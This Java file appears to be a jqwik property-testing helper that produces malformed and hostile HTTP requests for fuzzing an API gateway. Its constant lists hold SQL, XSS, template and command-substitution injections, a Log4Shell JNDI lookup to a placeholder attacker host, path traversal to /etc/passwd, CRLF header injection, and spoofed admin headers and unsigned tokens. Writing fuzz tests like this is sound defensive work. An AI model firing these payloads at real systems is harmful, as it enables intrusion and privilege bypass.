package io.fillonce.gateway;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;

/**
 * jqwik generators of malformed and hostile requests that are still well-framed HTTP/1.1: broken JSON, huge
 * numbers, deep nesting, unicode edge cases (lone surrogates, invalid UTF-8, BOM, bidi overrides), oversized
 * bodies and headers, injection-looking strings everywhere, path traversal in ids, bad or spoofed credentials.
 */
final class HostileRequests {

    private static final List<String> INJECTIONS = List.of("' OR '1'='1", "\"; DROP TABLE records; --",
            "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "{\"$where\":\"sleep(1000)\"}",
            "$ne", "../../../../etc/passwd", "%00", "\\u0000", "{{7*7}}", "#{7*7}", "`id`", "$(id)", "\r\nX-Evil: 1",
            "admin:bootstrap", "department:health", "*", "null", "true", "-1", "1e309", "NaN");
    private static final List<String> UNICODE = List.of("\uFEFF", "\u202E", "\u200B", "\u0301", "\uD83D\uDE00",
            "\uFFFF", "\u0000", "\u2028", "İ", "ﬃ", "𝔘", "\u00A0", "Ω");
    private static final List<String> TRAVERSALS = List.of("..", "%2e%2e", "%2E%2E%2F%2E%2E", "..%2f", "%2f", "%5c",
            "..;", ";x=1", "%00", "%ff", "%c0%af", "%252e%252e", "%zz", "%", ".", "%2e", "~", "civil-affairs", "health",
            "resident", "370602", "batch", "..%252f..%252fops");
    private static final List<String> PREFIXES = List.of("/api/records/", "/api/records/resident/", "/api/registry/",
            "/api/feeds/", "/api/prefill/civil-affairs/", "/api/ops/", "/api/", "/", "/actuator/", "/api/records/resident/batch");

    private HostileRequests() {
    }

    static Arbitrary<RawHttp.Request> requests(List<String> keys) {
        Arbitrary<Boolean> chunked = Arbitraries.of(true, false);
        return Combinators.combine(methods(), targets(), headers(keys), bodies(), chunked)
                .as((method, target, headers, body, isChunked) -> new RawHttp.Request(method, target, headers,
                        body, isChunked));
    }

    private static Arbitrary<String> methods() {
        return Arbitraries.frequencyOf(Tuple.of(4, Arbitraries.of("POST")), Tuple.of(2, Arbitraries.of("PATCH", "PUT")),
                Tuple.of(3, Arbitraries.of("GET")), Tuple.of(1, Arbitraries.of("DELETE", "HEAD", "OPTIONS", "TRACE",
                        "FOO", "get", "PROPFIND")));
    }

    private static Arbitrary<String> targets() {
        Arbitrary<String> segment = Arbitraries.frequencyOf(
                Tuple.of(4, Arbitraries.of(TRAVERSALS)),
                Tuple.of(3, hostileText().map(HostileRequests::encode)),
                Tuple.of(1, Arbitraries.strings().withChars("abc-_.~0123456789").ofMinLength(1).ofMaxLength(5000)));
        Arbitrary<String> path = Combinators.combine(Arbitraries.of(PREFIXES), segment.list().ofMaxSize(4))
                .as((prefix, segments) -> prefix + String.join("/", segments));
        Arbitrary<String> query = hostileText().map(value -> "?q=" + encode(value) + "&after=" + encode(value)
                + "&limit=99999999999999999999");
        return Combinators.combine(path, query.optional())
                .as((p, q) -> p + q.orElse(""))
                .filter(target -> !target.endsWith("/slow") && !target.endsWith("/drop") && !target.contains("/status/"));
    }

    private static Arbitrary<List<Map.Entry<String, String>>> headers(List<String> keys) {
        Arbitrary<List<Map.Entry<String, String>>> auth = Arbitraries.frequencyOf(
                Tuple.of(6, Arbitraries.of(keys).map(key -> List.of(Map.entry("Authorization", "Bearer " + key)))),
                Tuple.of(1, Arbitraries.of(keys).map(key -> List.of(Map.entry("Authorization", "Bearer " + key),
                        Map.entry("Authorization", "Bearer " + key)))),
                Tuple.of(2, Arbitraries.of("Bearer", "Bearer ", "Bearer a b", "Basic YWRtaW46YWRtaW4=", "bearer\tx",
                        "Bearer " + "k".repeat(600), "Bearer é-ünïcode", "Bearer ' OR 1=1", "Bearer ${jndi:x}",
                        "Negotiate x", "Bearer %00").map(value -> List.of(Map.entry("Authorization", value)))),
                Tuple.of(1, Arbitraries.just(List.of())));
        Arbitrary<List<Map.Entry<String, String>>> extra = Arbitraries.of(
                Map.entry("X-Fillonce-Principal", "admin:bootstrap"), Map.entry("X-Fillonce-Role", "ADMIN"),
                Map.entry("X-Fillonce-Identity", "eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9."),
                Map.entry("X-Forwarded-For", "6.6.6.6"), Map.entry("Forwarded", "for=6.6.6.6;proto=https"),
                Map.entry("traceparent", "00-zz-zz-zz"), Map.entry("Content-Type", "application/json"),
                Map.entry("Content-Type", "application/json; charset=utf-16"), Map.entry("Content-Type", "a/b/c"),
                Map.entry("Content-Type", "text/csv"), Map.entry("Accept", "*/*;q=x"),
                Map.entry("Idempotency-Key", "' OR 1=1 --"), Map.entry("Origin", "https://evil.example"),
                Map.entry("X-Huge", "h".repeat(20_000)), Map.entry("X-Unicode", "Ωé\uD83D\uDE00\u202E"),
                Map.entry("Content-Encoding", "gzip"), Map.entry("Expect", "100-continue"))
                .list().ofMaxSize(3);
        return Combinators.combine(auth, extra).as((a, e) -> {
            List<Map.Entry<String, String>> all = new ArrayList<>(a);
            all.addAll(e);
            return all;
        });
    }

    private static Arbitrary<byte[]> bodies() {
        return Arbitraries.frequencyOf(
                Tuple.of(5, hostileText().map(text -> ("{\"idNumber\":\"" + jsonEscape(text) + "\",\"name\":\""
                        + jsonEscape(text) + "\"}").getBytes(StandardCharsets.UTF_8))),
                Tuple.of(3, brokenJson()),
                Tuple.of(2, hugeNumbers()),
                Tuple.of(2, deepNesting()),
                Tuple.of(2, unicodeBytes()),
                Tuple.of(1, Arbitraries.integers().between(2 * 1024 * 1024 + 1, 3 * 1024 * 1024)
                        .map(size -> "x".repeat(size).getBytes(StandardCharsets.US_ASCII))),
                Tuple.of(1, Arbitraries.just(new byte[0])));
    }

    private static Arbitrary<String> hostileText() {
        return Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.of(INJECTIONS)),
                Tuple.of(2, Arbitraries.of(UNICODE).list().ofMinSize(1).ofMaxSize(8).map(parts -> String.join("", parts))),
                Tuple.of(2, Arbitraries.strings().all().ofMaxLength(40)),
                Tuple.of(1, Arbitraries.strings().ascii().ofMinLength(100).ofMaxLength(3000)));
    }

    private static Arbitrary<byte[]> brokenJson() {
        String valid = "{\"idNumber\":\"370602\",\"name\":\"Zhang\",\"birth\":\"1990-01-01\",\"tags\":[1,2,{\"a\":null}]}";
        return Arbitraries.oneOf(
                Arbitraries.integers().between(0, valid.length() - 1).map(cut -> valid.substring(0, cut)),
                Arbitraries.of("{", "}", "[,]", "{\"a\":}", "{\"a\" 1}", "{'a':1}", "{\"a\":1,}", "nul", "tru",
                        "\"unterminated", "{\"a\":\"\\x\"}", "{\"a\":01}", "{\"a\":+1}", "{\"a\":.5}", "{\"__proto__\":{}}",
                        "{\"a\":1}{\"b\":2}", "[]", "123", "\"\"", "{\"idNumber\":1,\"idNumber\":2}"),
                Arbitraries.strings().ascii().ofMaxLength(200))
                .map(text -> text.getBytes(StandardCharsets.UTF_8));
    }

    private static Arbitrary<byte[]> hugeNumbers() {
        return Arbitraries.oneOf(
                Arbitraries.integers().between(20, 200_000).map(digits -> "{\"n\":1" + "0".repeat(digits) + "}"),
                Arbitraries.of("{\"n\":1e999999999}", "{\"n\":-1e-999999999}", "{\"n\":9223372036854775808}",
                        "{\"n\":1.7976931348623157e309}", "{\"n\":0." + "0".repeat(5000) + "1}", "{\"n\":-0}"))
                .map(text -> text.getBytes(StandardCharsets.UTF_8));
    }

    private static Arbitrary<byte[]> deepNesting() {
        return Arbitraries.integers().between(100, 200_000).flatMap(depth -> Arbitraries.of(
                "[".repeat(depth) + "]".repeat(depth),
                "{\"a\":".repeat(depth) + "1" + "}".repeat(depth),
                "[".repeat(depth)))
                .map(text -> text.getBytes(StandardCharsets.UTF_8));
    }

    private static Arbitrary<byte[]> unicodeBytes() {
        return Arbitraries.of(
                new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF, '{', '}'},
                new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'},
                new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xC0, (byte) 0xAF, '"', '}'},
                new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xED, (byte) 0xA0, (byte) 0x80, '"', '}'},
                new byte[] {(byte) 0xFF, (byte) 0xFE, '{', 0, '}', 0},
                "{\"a\":\"\\ud800\"}".getBytes(StandardCharsets.UTF_8),
                "{\"a\":\"\\udc00\\ud800\"}".getBytes(StandardCharsets.UTF_8),
                "{\"a\u0000\":1}".getBytes(StandardCharsets.UTF_8),
                "{\"\u202Eadmin\":\"\uFEFF\"}".getBytes(StandardCharsets.UTF_8));
    }

    private static String encode(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String jsonEscape(String text) {
        StringBuilder out = new StringBuilder();
        for (char c : text.toCharArray()) {
            if (c == '"' || c == '\\') {
                out.append('\\').append(c);
            }
            else if (c < 0x20) {
                out.append(String.format("\\u%04x", (int) c));
            }
            else {
                out.append(c);
            }
        }
        return out.toString();
    }
}
